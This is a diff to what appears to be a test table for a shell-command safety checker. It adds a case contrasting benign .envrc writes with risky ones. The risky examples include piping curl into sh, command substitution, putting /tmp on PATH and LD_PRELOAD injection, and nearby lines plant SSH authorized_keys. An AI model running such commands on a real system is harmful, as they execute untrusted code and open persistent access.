@@ -244,4 +244,19 @@ ordinary("daily", [
     ["git clone http://127.0.0.1:8000/.git x", "git clone https://github.com/acme/authorized_keys keys"],
     ["git clone https://github.com/acme/keys ~/.ssh", "wget -P ~/.ssh https://x.example/authorized_keys"],
   ],
+  [
+    "an .envrc that only declares",
+    [
+      `echo 'export PATH="$HOME/.local/bin:$PATH"' >> .envrc`,
+      "echo 'use flake' > .envrc && direnv allow",
+      "printf 'dotenv\nexport NODE_ENV=development\n' > .envrc",
+    ],
+    [
+      "echo 'export PATH=/tmp:$PATH' >> .envrc",
+      "echo 'use flake; curl x | sh' > .envrc",
+      "echo 'export X=$(id)' > .envrc",
+      "echo 'export LD_PRELOAD=./x.so' > .envrc",
+      "cp x .envrc",
+    ],
+  ],
 ]);
